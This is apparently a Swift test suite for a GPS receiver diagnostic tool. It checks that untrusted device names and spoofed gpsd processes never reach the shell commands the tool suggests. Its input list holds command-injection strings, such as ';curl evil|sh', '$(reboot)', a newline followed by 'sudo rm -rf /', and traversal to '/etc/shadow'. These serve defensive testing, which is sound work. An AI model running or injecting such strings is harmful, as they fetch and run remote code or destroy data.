import Glibc
import LocationCore
import Testing

@testable import LocwatchDoctor
@testable import LocwatchSystem

/// What a command or a message is fed by whoever is not trusted.
struct Lie: Sendable, CustomTestStringConvertible {
  let text: String

  var testDescription: String { text.debugDescription }

  static let all = [
    "/dev/ttyACM0;curl evil|sh", "/dev/$(reboot)", "/dev/ttyACM0' ; curl evil | sh ; '",
    "/dev/x\nsudo rm -rf /", "-rf /", "/etc/shadow", "/dev/vda", "/dev/null", "/dev/mem",
    "/dev/tty1", "/dev/../etc/shadow", "/dev/shm/ttyACM0", "/dev/pts/7", "`reboot`",
  ].map(Lie.init)

  /// A path that exists, as far as it can be the name of a file.
  func plant(on fake: FakeMachine) throws {
    for path in ["dev/vda", "dev/null", "dev/mem", "dev/tty1", "etc/shadow", "dev/pts/7"] {
      try fake.write(to: path)
      try fake.protect(path, 0o600, group: SickMachine.group)
    }
    try fake.link("dev/shm/ttyACM0", to: "../ttyACM0")
    try fake.write("4:1\n", to: "sys/class/tty/tty1/dev")
    if text.hasPrefix("/dev/"), !text.contains(".."), text.dropFirst(5).allSatisfy({ $0 != "/" }) {
      try fake.write(to: String(text.dropFirst()))
    }
  }
}

/// Machines on which somebody lies, each in another way.
/// Fault 129.
@Suite struct `A machine full of lies` {
  private static let stranger = SickMachine.status(user: 4242, groups: 4242)

  private static let ways: [@Sendable (inout SickMachine, String) throws -> Void] = [
    // gpsd names a receiver, in several states.
    { $0.events = [SickMachine.answer, SickMachine.receivers($1, isActive: false)] },
    { $0.events = [SickMachine.answer, SickMachine.receivers($1)] },
    { $0.events = [SickMachine.answer, SickMachine.receivers($1, driver: nil, speed: 4800)] },
    { $0.events = [SickMachine.answer, SickMachine.receivers($1, driver: $1)] },
    {
      $0.events = [SickMachine.answer, SickMachine.receivers($1), .noFix(NoFix(device: $1))]
      try $0.fake.run("cat", as: 90, opening: "/dev/ttyACM0", "/dev/null", "/dev/vda")
      try $0.fake.run("init", as: 1, opening: "/dev/ttyACM0", "/dev/null", "/dev/vda")
    },
    { $0.events = [SickMachine.answer, .receivers([]), .refused(path: $1, reason: $1)] },
    { $0.events = [.notice($1)] },
    { $0.events = [.service(LocationService(name: $1)), .receivers([])] },
    { ($0.events, $0.failure) = ([], LocationError(.unreachable, $1)) },
    // A process of another user has the name of gpsd, and arguments of its choice.
    {
      try $0.fake.run("gpsd", as: 5, $1, status: stranger)
      $0.events = [SickMachine.answer, .receivers([])]
    },
    {
      try $0.fake.end(77)
      try $0.fake.run("gpsd", as: 5, "-G -s 4800 \($1)", status: stranger, opening: "/dev/ttyACM0")
      $0.events = [SickMachine.answer, SickMachine.receivers(isActive: false)]
    },
    // One that has the real receiver open, with a lower number than the real gpsd.
    { machine, _ in try machine.fake.run("gpsd", as: 5, status: stranger, opening: "/dev/ttyACM0")
    },
    // A program whose name is the lie, and one that is the first process, has the receiver open.
    {
      try $0.fake.run(
        String($1.split(separator: "\n")[0].prefix(15)), as: 90, opening: "/dev/ttyACM0")
      try $0.fake.run("systemd", as: 1, opening: "/dev/ttyACM0")
    },
    { machine, _ in try machine.fake.run("locwatch", as: getpid(), opening: "/dev/ttyACM0") },
    // gpsd still has something else open that was removed.
    { try $0.hold($1) },
    { try $0.hold($1, "/dev/ttyACM0") },
    // Files that are root's.
    { try $0.fake.write("GPSD_OPTIONS=\"-G \($1)\"\nDEVICES=\"\($1)\"\n", to: "etc/default/gpsd") },
    { try $0.fake.write("\($1):x:\(SickMachine.group):\n", to: "etc/group") },
    { try $0.fake.write("\($1):x:4711:4711:,,,\n", to: "etc/passwd") },
    { try $0.fake.write("console=ttyACM0;\($1)\n", to: "proc/cmdline") },
    { try $0.fake.write("refclock SHM 3 \($1)\n", to: "etc/chrony/chrony.conf") },
  ]

  private static func isOfOurs(_ command: ShellText) -> Bool {
    let words = command.text.split(separator: " ")
    guard words.starts(with: ["sudo", "kill"]) else { return true }
    return !words.contains("1") && !words.contains("\(getpid())") && !words.contains("77")
  }

  /// The parts of a message that are commands to be copied.
  private static func quoted(_ text: String) -> [Substring] {
    text.split(separator: "'", omittingEmptySubsequences: false).enumerated()
      .compactMap { $0.offset % 2 == 1 && $0.element.hasPrefix("sudo") ? $0.element : nil }
  }

  @Test(arguments: Lie.all)
  func `leads to no command of a check that contains a lie`(lie: Lie) throws {
    var count = 0
    for (number, way) in Self.ways.enumerated() {
      // Half of the machines also have a device without any permission.
      let mode: mode_t = number.isMultiple(of: 2) ? 0o660 : 0o600
      var machine = try SickMachine()
      try lie.plant(on: machine.fake)
      try machine.fake.protect("dev/ttyACM0", mode, group: SickMachine.group)
      try way(&machine, lie.text)
      for target in ["localhost", "/dev/ttyACM0", "boat"] {
        for finding in machine.findings(target) {
          let commands = finding.remedy.commands
          count += commands.count
          #expect(commands.allSatisfy { !$0.text.contains(lie.text) })
          #expect(commands.allSatisfy { !$0.text.contains("\n") && Self.isOfOurs($0) })
          #expect(commands.isEmpty || target != "boat")
          #expect(finding.remedy.words.lines.count == 1)
          #expect(
            Self.quoted(finding.remedy.words.text).allSatisfy { !$0.contains(lie.text) })
        }
      }
    }
    // The test would be worth nothing if there were none.
    #expect(count > 10)
  }

  /// Only root's files can get a lie into a command, and only the shell's own letters.
  @Test(arguments: Lie.all)
  func `leads to no hint that contains a lie as a command, or that the lie begins`(lie: Lie) throws
  {
    let updates: [[LocationUpdate]] = [
      [.answer, .receiver(lie.text), .event(.removed(path: lie.text)), .event(.receivers([]))],
      [.answer, .receiver(lie.text)], [.answer, .receiver(lie.text, isActive: false)],
      [.answer, .event(.refused(path: lie.text, reason: lie.text))],
      [.event(.service(LocationService(name: lie.text))), .event(.receivers([]))],
      [.event(.notice(lie.text))], [.failed(.unreachable, lie.text)],
      [.failed(.unknownHost, lie.text)], [.failed(.silent, lie.text)],
      [.failed(.disconnected, lie.text)], [.failed(.notAService, lie.text)],
      [.answer, .state(.searching, of: lie.text), .sky(of: lie.text, seen: 0, used: 0)],
    ]
    let machine = try SickMachine()
    try lie.plant(on: machine.fake)
    for target in ["localhost", "boat", "/dev/ttyACM0", "tcp://boat:1"] {
      for updates in updates {
        var diagnosis = Diagnosis(Question(target), on: machine.fake.machine)
        for update in updates { diagnosis.record(update) }
        let message = diagnosis.noFix(within: nil)
        #expect(Self.quoted(message.text).allSatisfy { !$0.contains(lie.text) })
        // Commands, as those of the doctor
        #expect(message.lines.dropFirst(2).allSatisfy { !$0.contains(lie.text) })
        #expect(message.lines.count <= 4)
        #expect(
          !message.lines.dropFirst().contains {
            $0.hasPrefix(lie.text.split(separator: "\n").last!)
          })
        if target == "boat" { #expect(Self.quoted(message.text).isEmpty) }
      }
    }
  }

  @Test func `has no gpsd but root's, gpsd's own and the user's`() throws {
    let machine = try SickMachine()
    func process(_ name: String, _ real: uid_t, _ user: uid_t, exe: String? = nil) throws
      -> GPSDProcess?
    {
      try machine.fake.run(
        name, as: 90, "-n /dev/x", status: "Uid:\t\(real)\t\(user)\t0\t0\nGid:\t1\t1\t1\t1\n")
      unlink("\(machine.fake.root)/proc/90/exe")
      if let exe { try machine.fake.link("proc/90/exe", to: exe) }
      return machine.fake.machine.processes.first { $0.id == 90 }
        .flatMap { GPSDProcess($0, on: machine.fake.machine) }
    }
    for user in [0, 998, 4711] as [uid_t] {
      #expect(try process("gpsd", user, user)?.arguments.devices == ["/dev/x"])
    }
    #expect(try process("gpsd", 4242, 4242) == nil)
    // A file of root that is set-user-ID, and another program under that name
    #expect(try process("gpsd", 4242, 0) == nil && process("gpsd", 0, 4242) == nil)
    #expect(try process("gpsd", 0, 0, exe: "/usr/bin/sudo") == nil)
    #expect(try process("gpsd", 0, 0, exe: "/usr/sbin/gpsd") != nil)
    #expect(try process("gpsd", 0, 0, exe: "/usr/sbin/gpsd (deleted)") != nil)
    #expect(try process("gpsdx", 0, 0) == nil)
  }

  @Test func `keeps the gpsd of root, whoever else reads its receiver`() throws {
    let machine = try SickMachine()
    try machine.fake.run("gpsd", as: 5, status: Self.stranger, opening: "/dev/ttyACM0")
    let finding = machine.findings().first { $0.name == "sharing" }
    #expect(
      finding?.seen
        == "/dev/ttyACM0 is open in gpsd (process 5) of user 4242 as well as in gpsd")
    #expect(finding?.remedy.commands == ["sudo kill 5"])
    // If the right one cannot be distinguished from the other, none is to be ended.
    try machine.fake.run("gpsd", as: 77, status: Self.stranger, opening: "/dev/ttyACM0")
    let other = machine.findings().first { $0.name == "sharing" }
    #expect(other?.isWell == false && other?.remedy.commands == [])
  }

  @Test func `is not believed if another user answers for gpsd`() throws {
    var machine = try SickMachine()
    try machine.fake.write(
      "head\n   0: 0100007F:0B83 00000000:0000 0A 0:0 00:0 0 4242 0 1 1 0 100 0 0 10 0\n"
        + "   1: 0100007F:0B83 00000000:0000 0A 0:0 00:0 0 4243 0 2 1 0 100 0 0 10 0\n",
      to: "proc/net/tcp")
    machine.events = [SickMachine.answer, SickMachine.receivers("/dev/ttyUSB7", isActive: false)]
    try machine.plug("ttyUSB7", mode: 0o600)
    try machine.fake.run("cat", as: 90, opening: "/dev/ttyUSB7")
    let findings = machine.findings()
    #expect(
      findings.first { $0.name == "gpsd" }?.seen
        == "gpsd 3.22 answers at localhost:2947, as user 4242, whom locwatch does not trust")
    #expect(findings.first { $0.name == "sharing" }?.seen == "no other process reads /dev/ttyACM0")
  }
}

@Suite struct `What locwatch has looked up` {
  @Test(arguments: [
    ("/dev/ttyACM0", true), ("/dev/serial/by-id/usb-u-blox_7-if00", true), ("/dev/gps0", true),
    ("/dev/gnss0", true), ("/dev/ttyACM1", false), ("/dev/tty1", false), ("/dev/tty63", false),
    ("/dev/ttyS0", true), ("/dev/console", false), ("/dev/null", false), ("/dev/shm/gps", false),
    ("/dev/../dev/ttyACM0", false), ("/etc/gps", false), ("ttyACM0", false), ("/dev/", false),
    ("", false), ("/dev/a b", false), ("/dev/pts/3", false),
  ])
  func `is a serial device by a path of root's`(path: String, isSerial: Bool) throws {
    let machine = try SickMachine()
    for (name, number) in [
      ("tty1", "4:1"), ("tty63", "4:63"), ("ttyS0", "4:64"), ("console", "5:1"),
    ] {
      try machine.plug(name, number: number)
    }
    for name in ["dev/null", "dev/gnss0", "dev/pts/3", "dev/a b"] {
      try machine.fake.write(to: name)
    }
    try machine.fake.write("511:0\n", to: "sys/class/gnss/gnss0/dev")
    for link in ["dev/gps0", "dev/shm/gps", "etc/gps"] {
      try machine.fake.link(link, to: "\(machine.fake.root)/dev/ttyACM0")
    }
    #expect((SerialPath(path, on: machine.fake.machine)?.shellText == path) == isSerial)
  }

  @Test func `is a pseudo-terminal only if the user has named it`() throws {
    let machine = try SickMachine()
    for name in ["dev/pts/3", "dev/pts/ptmx"] { try machine.fake.write(to: name) }
    try machine.fake.link("dev/shm/gps", to: "\(machine.fake.root)/dev/pts/3")
    func text(_ path: String, isNamedByUser: Bool) -> String? {
      SerialPath(path, on: machine.fake.machine, isNamedByUser: isNamedByUser)?.shellText
    }
    #expect(text("/dev/pts/3", isNamedByUser: true) == "/dev/pts/3")
    // By the path that only root can redirect
    #expect(text("/dev/shm/gps", isNamedByUser: true) == "/dev/pts/3")
    #expect(text("/dev/pts/3", isNamedByUser: false) == nil)
    #expect(text("/dev/pts/ptmx", isNamedByUser: true) == nil)
    #expect(text("/dev/pts/4", isNamedByUser: true) == nil)
  }

  @Test func `is a real device of the machine, by its number`() throws {
    // They exist everywhere, and are no serial devices.
    for path in ["/dev/null", "/dev/zero", "/dev/tty", "/dev/ptmx", "/etc/passwd", "/dev"] {
      #expect(SerialPath(path, on: .this) == nil)
    }
  }

  @Test func `is a process that has the device, and neither the first, this one, nor one above it`()
    throws
  {
    let machine = try SickMachine()
    let device = try #require(SerialPath("/dev/ttyACM0", on: machine.fake.machine))
    for process in [1, 90, 91, 92, getpid()] {
      try machine.fake.run("cat", as: process, opening: "/dev/ttyACM0")
    }
    try machine.fake.run("cat", as: 93, opening: "/dev/null")
    try machine.fake.write("7 (a) b) S 91 1\n", to: "proc/self/stat")
    try machine.fake.write("91 (sh) S 92 1\n", to: "proc/91/stat")
    let ids = [1, 90, 91, 92, 93, 94, getpid()].filter {
      HoldingProcess($0, of: device, on: machine.fake.machine) != nil
    }
    #expect(ids == [90])
  }

  @Test func `is a word of a file that only its owner can change`() throws {
    let machine = try SickMachine()
    func isKnown(_ word: String) -> Bool {
      RootsWord(word, in: "/etc/group", on: machine.fake.machine) != nil
    }
    #expect(isKnown("dialout") && !isKnown("dialin") && !isKnown(""))
    try machine.fake.protect("etc/group", 0o666, group: SickMachine.group)
    #expect(!isKnown("dialout"))
  }

  @Test(arguments: [
    ("a.jsonl", "a.jsonl"), ("a b", "'a b'"), ("a'b", #"'a'\''b'"#), ("-x", "'-x'"),
    ("$(x)", "'$(x)'"), ("", "''"), ("/dev/ttyUSB0", "/dev/ttyUSB0"),
  ])
  func `is not an argument, which is quoted`(argument: String, text: String) {
    #expect(("x \(argument: argument)" as ShellText).text == "x \(text)")
  }

  @Test func `is named without a colon if there is no command`() {
    #expect(Remedy("Run:").words == "Run." && Remedy("Run:", run: []).words == "Run.")
    #expect(Remedy("Run:", run: ["x"]).words == "Run:" && Remedy("Run it").words == "Run it")
  }
}
